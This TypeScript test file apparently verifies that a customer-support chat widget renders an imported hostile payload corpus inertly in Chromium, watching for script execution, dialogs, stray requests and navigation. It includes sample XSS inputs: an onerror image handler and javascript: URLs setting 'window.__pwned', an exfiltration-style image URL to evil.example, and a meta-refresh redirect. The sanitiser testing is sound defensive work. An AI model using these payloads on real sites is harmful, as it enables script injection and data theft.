/**
 * The hostile corpus in real Chromium, through the built script-tag bundle, on a page
 * WITHOUT a Content-Security-Policy (so nothing but the widget itself stands between a
 * payload and the page): bot messages, streamed replies, typed customer messages,
 * quick replies, attachments, agent names and messages, and a hostile stored
 * conversation. Script really runs here if anything lets it: the canary
 * `window.__pwned`, dialogs and page errors are watched, every network request is
 * checked against an allow-list, the shadow DOM is scanned continuously, and the page
 * must not navigate or be clobbered.
 */
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, serveStatic } from '../support/browser';
import { marker, PAYLOADS } from './payloads';
import { scanForUnsafe } from './support/scan-dom';

let browser: Awaited<ReturnType<typeof launchBrowser>>;
let site: Awaited<ReturnType<typeof serveStatic>>;
let page: Page;

const IMAGE_ORIGIN = 'https://cdn.example.com';
const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');

/** Watchers installed before any page script runs. */
const WATCH = `
  window.__findings = [];
  window.__scan = ${scanForUnsafe.toString()};
  window.addEventListener('error', (e) => window.__findings.push('error: ' + e.message));
  window.__watch = (root) => new MutationObserver((records) => {
    for (const r of records) {
      const nodes = r.type === 'attributes' ? [r.target] : [...r.addedNodes];
      for (const n of nodes) if (n.nodeType === 1) for (const p of window.__scan(n, ['${IMAGE_ORIGIN}'])) window.__findings.push('live: ' + p);
    }
  }).observe(root, { subtree: true, childList: true, attributes: true });
`;

const SETUP = `
  const { init, transports } = window.HandoffChat;
  window.bot = transports.createMemoryBot({ reply: (text) => text });
  window.human = transports.createMemoryHuman();
  window.w = init({ bot, human, target: '#here', imageOrigins: ['${IMAGE_ORIGIN}'], ...(window.STORAGE_OFF ? { storage: false } : {}) });
  window.__watch(w.element.shadowRoot);
  window.macrotask = () => new Promise((r) => { const c = new MessageChannel(); c.port1.onmessage = r; c.port2.postMessage(0); });
`;

const page$ = (body: string, extra = ''): string =>
  `<!doctype html><html lang="en"><head><title>Shop</title></head><body><main><h1>Shop</h1><div id="here"></div></main>${extra}` +
  `<script src="/adv/payloads.js"></script><script src="/dist/handoff-chat.iife.js"></script><script>${body}</script><script src="/adv/setup.js"></script></body></html>`;

const requests: string[] = [];
const dialogs: string[] = [];
const pageErrors: string[] = [];

function allowed(url: string): boolean {
  const u = new URL(url);
  if (u.origin === IMAGE_ORIGIN) return u.pathname === '/receipt.png';
  return u.origin === site.url && ['/adv/content', '/adv/restored', '/adv/payloads.js', '/adv/setup.js', '/dist/handoff-chat.iife.js', '/dist/handoff-chat.vitals.js', '/dist/handoff-chat.phrases.js', '/favicon.ico'].includes(u.pathname);
}

async function findings(p: Page): Promise<string[]> {
  return p.evaluate((origin) => {
    const w = window as unknown as { __findings: string[]; __scan: (root: ParentNode, o: string[]) => string[]; __pwned?: unknown };
    const root = document.querySelector('handoff-chat')?.shadowRoot;
    return [
      ...w.__findings,
      ...(root ? w.__scan(root, [origin]) : ['no widget']),
      ...(w.__pwned !== undefined ? ['a payload ran script (window.__pwned)'] : []),
    ];
  }, IMAGE_ORIGIN);
}

/** The page is still itself: not navigated, not clobbered, and the widget's global intact. */
async function expectIntactPage(p: Page, path: string): Promise<void> {
  const state = await p.evaluate(() => ({
    path: location.pathname,
    init: typeof (window as unknown as { HandoffChat?: { init?: unknown } }).HandoffChat?.init,
    getElementById: typeof document.getElementById,
    byId: ['chat', 'HandoffChat', 'hc-panel', 'hc-input', 'cookie'].map((id) => document.getElementById(id)?.tagName ?? null),
    named: ['chat', 'HandoffChat', 'document', '__pwned'].map((n) => document.getElementsByName(n).length),
    globals: ['chat', '__pwned'].map((n) => typeof (window as unknown as Record<string, unknown>)[n]),
    cookie: typeof document.cookie,
    elements: document.querySelectorAll('img, iframe, script:not([src]), object, embed, svg, math, form').length,
  }));
  expect(state).toEqual({
    path,
    init: 'function',
    getElementById: 'function',
    byId: [null, null, null, null, null],
    named: [0, 0, 0, 0],
    globals: ['undefined', 'undefined'],
    cookie: 'string',
    // The page's own inline script is the only one; the widget adds nothing outside its root.
    elements: 1,
  });
}

beforeAll(async () => {
  browser = await launchBrowser();
  site = await serveStatic({
    routes: [
      (req, res) => {
        const path = new URL(req.url ?? '/', 'http://x').pathname;
        const send = (type: string, body: string) => {
          res.writeHead(200, { 'content-type': `${type}; charset=utf-8`, 'cache-control': 'no-store' }).end(body);
          return true;
        };
        // JSON.stringify escapes lone surrogates, so the page gets every payload exactly.
        if (path === '/adv/payloads.js') return send('text/javascript', `window.PAYLOADS = ${JSON.stringify(PAYLOADS)};`);
        if (path === '/adv/setup.js') return send('text/javascript', SETUP);
        if (path === '/adv/content') return send('text/html', page$('window.STORAGE_OFF = true;'));
        if (path === '/adv/restored') return send('text/html', page$(''));
        return false;
      },
    ],
  });
  await browser.context.route(`${IMAGE_ORIGIN}/**`, (route) => route.fulfill({ status: 200, contentType: 'image/png', body: PIXEL }));
  await browser.context.route('https://ok.example/**', (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<title>ok</title>' }));
  page = await browser.newPage();
  await page.addInitScript({ content: WATCH });
  page.on('request', (r: Request) => requests.push(r.url()));
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('pageerror', (e) => pageErrors.push(e.message));
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await site?.close();
});

describe('the corpus in real Chromium, without a CSP', () => {
  it(`stays inert in bot messages, streams, quick replies and attachments (${PAYLOADS.length} payloads)`, async () => {
    await page.goto(`${site.url}/adv/content`);
    await page.locator('[part~="human-button"]').waitFor();
    await page.evaluate(async () => {
      const g = window as unknown as {
        PAYLOADS: Array<{ id: string; text: string }>;
        bot: { backend: { emit(e: unknown): void } };
        macrotask(): Promise<void>;
      };
      for (const p of g.PAYLOADS) {
        const body = `${p.text}\n\nend-of-${p.id}`;
        g.bot.backend.emit({ type: 'message', message: { id: `m-${p.id}`, text: body } });
        g.bot.backend.emit({
          type: 'message',
          message: {
            id: `q-${p.id}`,
            text: 'Pick one',
            quickReplies: [{ title: p.text, payload: p.text }],
            attachments: [
              { kind: 'image', url: 'https://cdn.example.com/receipt.png', alt: p.text, name: p.text },
              { kind: 'image', url: `https://evil.example/leak.png?d=${encodeURIComponent(p.text.replace(/[\ud800-\udfff]/g, ''))}`, alt: p.text },
              { kind: 'image', url: p.text, alt: p.text },
              { kind: 'file', url: p.text, name: p.text },
            ],
          },
        });
        await g.macrotask();
        // Streamed in pieces of five characters (one per delta in the happy-dom suite),
        // each rendered before the next arrives, so links are cut at every kind of place.
        const chars = Array.from(body);
        for (let i = 0; i < chars.length; i += 5) {
          g.bot.backend.emit({ type: 'delta', id: `s-${p.id}`, text: chars.slice(i, i + 5).join('') });
          await g.macrotask();
        }
        g.bot.backend.emit({ type: 'delta', id: `s-${p.id}`, text: '', done: true });
      }
      const last = g.PAYLOADS[g.PAYLOADS.length - 1] as { text: string };
      g.bot.backend.emit({ type: 'message', message: { id: 'q-last', text: 'Pick one', quickReplies: [{ title: last.text, payload: last.text }] } });
    });
    // The last quick reply, chosen with a real click.
    await page.locator('[part~="quick-reply"]').first().click();
    // Handlers on images, media and frames would fire asynchronously: give them time.
    await page.waitForTimeout(400);

    expect(await findings(page)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(pageErrors).toEqual([]);
    expect(requests.filter((u) => !allowed(u))).toEqual([]);
    expect(requests.filter((u) => u.startsWith(IMAGE_ORIGIN)).length).toBeGreaterThan(0);
    await expectIntactPage(page, '/adv/content');

    // Nothing lost or duplicated: the DOM shows the chat's messages, in order, each once.
    const counts = await page.evaluate(() => {
      const w = (window as unknown as { w: { state: { messages: Array<{ id: string; author: string; text: string }> } } }).w;
      const root = document.querySelector('handoff-chat')!.shadowRoot!;
      return {
        rendered: Array.from(root.querySelectorAll('[part~="message"]')).map((el) => el.getAttribute('data-author')),
        state: w.state.messages.map((m) => m.author),
        ids: new Set(w.state.messages.map((m) => m.id)).size,
        streamed: w.state.messages.filter((m) => m.id.startsWith('s-')).map((m) => m.text),
        markers: Array.from(root.querySelectorAll('[data-author="bot"] .md')).map((el) => el.textContent ?? '').filter((t) => t.includes('end-of-')).length,
      };
    });
    expect(counts.rendered).toEqual(counts.state);
    expect(counts.ids).toBe(counts.state.length);
    expect(counts.state.filter((a) => a === 'customer')).toHaveLength(1);
    expect(counts.streamed).toEqual(PAYLOADS.map((p) => `${p.text}\n\n${marker(p)}`));
    // Each payload's marker shows in its message and its stream.
    expect(counts.markers).toBe(PAYLOADS.length * 2);

    // The human control is visible, on top, and starts exactly one request.
    const human = page.locator('[part~="human-button"]');
    expect(await human.isVisible()).toBe(true);
    await human.click();
    await expect.poll(() => page.evaluate(() => (window as unknown as { human: { backend: { handoffs: unknown[] } } }).human.backend.handoffs.length)).toBe(1);
  }, 60_000);

  it('stays inert in agent names, titles, messages and streams, and in what the customer types', async () => {
    // A fresh conversation, with a person.
    await page.goto(`${site.url}/adv/content`);
    await page.locator('[part~="human-button"]').click();
    await expect.poll(() => page.evaluate(() => (window as unknown as { w: { state: { phase: string } } }).w.state.phase)).toBe('waiting');
    await page.evaluate(async () => {
      const g = window as unknown as { PAYLOADS: Array<{ id: string; text: string }>; human: { backend: { emit(e: unknown): void } }; macrotask(): Promise<void> };
      for (const p of g.PAYLOADS) {
        g.human.backend.emit({ type: 'agent-joined', agent: { name: p.text, title: p.text, avatarUrl: 'https://cdn.example.com/receipt.png' } });
        g.human.backend.emit({ type: 'typing', active: true, agent: { name: p.text } });
        g.human.backend.emit({ type: 'message', message: { id: `a-${p.id}`, text: `${p.text}\n\nend-of-${p.id}`, agent: { name: p.text, title: p.text } } });
        await g.macrotask();
        const chars = Array.from(p.text);
        for (let i = 0; i < chars.length; i += 11) {
          g.human.backend.emit({ type: 'delta', id: `as-${p.id}`, text: chars.slice(i, i + 11).join('') });
          await g.macrotask();
        }
        g.human.backend.emit({ type: 'delta', id: `as-${p.id}`, text: '', done: true });
      }
      g.human.backend.emit({ type: 'availability', availability: { available: false, message: g.PAYLOADS[0]?.text } });
    });
    // With a person (so no escalation trigger reroutes them), typed into the real textarea:
    // the first payloads with real keystrokes, the rest with the same events dispatched in the page.
    const input = page.locator('[part~="input"]');
    const setText = (id: string) =>
      input.evaluate((el, pid) => {
        const text = (window as unknown as { PAYLOADS: Array<{ id: string; text: string }> }).PAYLOADS.find((x) => x.id === pid)?.text ?? '';
        (el as HTMLTextAreaElement).value = text;
        el.dispatchEvent(new InputEvent('input', { bubbles: true }));
      }, id);
    for (const p of PAYLOADS.slice(0, 3)) {
      await setText(p.id);
      await input.press('Enter');
    }
    await input.evaluate(async (el) => {
      const g = window as unknown as { PAYLOADS: Array<{ id: string; text: string }>; macrotask(): Promise<void> };
      for (const p of g.PAYLOADS.slice(3)) {
        (el as HTMLTextAreaElement).value = p.text;
        el.dispatchEvent(new InputEvent('input', { bubbles: true }));
        await g.macrotask();
        el.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true }));
        await g.macrotask();
      }
    });
    await page.waitForTimeout(300);
    expect(await findings(page)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(pageErrors).toEqual([]);
    expect(requests.filter((u) => !allowed(u))).toEqual([]);
    await expectIntactPage(page, '/adv/content');
    const typed = await page.evaluate(() => {
      const g = window as unknown as { w: { state: { messages: Array<{ author: string; text: string }> } }; human: { backend: { received: Array<{ text: string }> } } };
      const root = document.querySelector('handoff-chat')!.shadowRoot!;
      return {
        state: g.w.state.messages.filter((m) => m.author === 'customer').map((m) => m.text),
        shown: Array.from(root.querySelectorAll('[data-author="customer"] .plain')).map((el) => el.textContent),
        desk: g.human.backend.received.length,
      };
    });
    const expected = PAYLOADS.map((p) => p.text.trim());
    expect(typed.state).toEqual(expected);
    expect(typed.shown).toEqual(expected);
    expect(typed.desk).toBe(PAYLOADS.length);
    const human = page.locator('[part~="human-button"]');
    expect(await human.getAttribute('data-kind')).toBe('end');
    expect(await human.isVisible()).toBe(true);
  }, 60_000);

  it('opens links from messages in a new tab without an opener, and never navigates the page', async () => {
    await page.evaluate(() => {
      const g = window as unknown as { bot: { backend: { emit(e: unknown): void } }; w: { endChat(): void } };
      g.w.endChat();
      g.bot.backend.emit({ type: 'message', message: { id: 'nav', text: 'Track it [here](https://ok.example/track) <meta http-equiv="refresh" content="0;url=https://evil.example/">' } });
    });
    const link = page.locator('[data-author="bot"] a[href="https://ok.example/track"]').last();
    const [popup] = await Promise.all([browser.context.waitForEvent('page'), link.click()]);
    await popup.waitForLoadState();
    expect(await popup.evaluate(() => window.opener)).toBeNull();
    await popup.close();
    await page.waitForTimeout(200);
    await expectIntactPage(page, '/adv/content');
    expect(requests.filter((u) => u.includes('evil.example'))).toEqual([]);
  });
});

describe('the watchers themselves', () => {
  it('catch a handler that runs, an element that should not be there and a request that should not happen', async () => {
    const probe = await browser.newPage();
    await probe.addInitScript({ content: WATCH });
    const seen: string[] = [];
    probe.on('request', (r) => seen.push(r.url()));
    await probe.goto(`${site.url}/adv/content`);
    await probe.locator('[part~="human-button"]').waitFor();
    // What a sanitiser bug would do: HTML from a message parsed into the widget.
    await probe.evaluate(() => {
      const log = document.querySelector('handoff-chat')!.shadowRoot!.querySelector('[part~="messages"]')!;
      log.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png" onerror="window.__pwned=1"><a href="javascript:void 0">x</a>');
    });
    await probe.waitForTimeout(300);
    const found = await findings(probe);
    expect(found).toContain('a payload ran script (window.__pwned)');
    expect(found.some((f) => f.includes('event handler attribute onerror'))).toBe(true);
    expect(found.some((f) => f.includes('unsafe link href="javascript:void 0"'))).toBe(true);
    expect(seen.filter((u) => !allowed(u))).toEqual(['https://evil.example/x.png']);
    await probe.close();
  });
});

describe('a hostile stored conversation in real Chromium', () => {
  it('restores as inert text, with the human control working', async () => {
    const T = Date.UTC(2026, 0, 5, 9, 30);
    const messages = PAYLOADS.flatMap((p, i) => [
      { id: `c-${p.id}`, author: 'customer', text: p.text, time: T + i, status: 'sent', chosenReply: { title: p.text } },
      { id: `b-${p.id}`, author: 'bot', text: p.text, time: T + i, status: 'sent', quickReplies: [{ title: p.text }], attachments: [{ kind: 'image', url: p.text, alt: p.text }, { kind: 'file', url: 'https://files.example/x', name: p.text }] },
      { id: `s-${p.id}`, author: 'system', text: p.text, time: T + i, status: 'sent', notice: { code: i % 2 ? 'agent-joined' : p.text, params: { name: p.text } } },
      { id: `a-${p.id}`, author: 'agent', text: `${p.text}\n\nend-of-${p.id}`, time: T + i, status: 'sent', agent: { name: p.text, title: p.text, avatarUrl: p.text } },
    ]);
    const stored = {
      v: 1,
      conversationId: 'conv_hostile',
      phase: 'human',
      messages,
      draft: PAYLOADS[0]?.text,
      handoff: { status: 'connected', attempts: 0, requestId: 'req_h', reason: PAYLOADS[1]?.text },
      agent: { name: PAYLOADS[2]?.text, title: PAYLOADS[3]?.text, avatarUrl: 'javascript:window.__pwned=1' },
      user: { name: PAYLOADS[4]?.text },
      startedAt: T,
      rating: 'none',
    };
    const fresh = await browser.newPage();
    await fresh.addInitScript({ content: WATCH });
    const errors: string[] = [];
    const seen: string[] = [];
    fresh.on('pageerror', (e) => errors.push(e.message));
    fresh.on('request', (r) => seen.push(r.url()));
    fresh.on('dialog', (d) => {
      errors.push(`dialog: ${d.message()}`);
      void d.dismiss();
    });
    await fresh.goto(`${site.url}/adv/payloads.js`);
    await fresh.evaluate((value) => localStorage.setItem('hc:default:conversation', value), JSON.stringify(stored));
    await fresh.goto(`${site.url}/adv/restored`);
    await fresh.locator('[part~="human-button"]').waitFor();
    await fresh.waitForTimeout(300);
    expect(await findings(fresh)).toEqual([]);
    expect(errors).toEqual([]);
    expect(seen.filter((u) => !allowed(u))).toEqual([]);
    await expectIntactPage(fresh, '/adv/restored');
    // A long history opens on its newest messages: bring in every earlier page.
    const earlier = fresh.locator('[part~="earlier-button"]');
    while (await earlier.count()) await earlier.click();
    expect(await findings(fresh)).toEqual([]);
    const shown = await fresh.evaluate(() => document.querySelector('handoff-chat')!.shadowRoot!.querySelectorAll('[part~="message"]').length);
    expect(shown).toBe(messages.length);
    const human = fresh.locator('[part~="human-button"]');
    expect(await human.getAttribute('data-kind')).toBe('end');
    await human.click();
    await expect.poll(() => fresh.evaluate(() => (window as unknown as { w: { state: { phase: string } } }).w.state.phase)).toBe('ended');
    await fresh.close();
  });
});
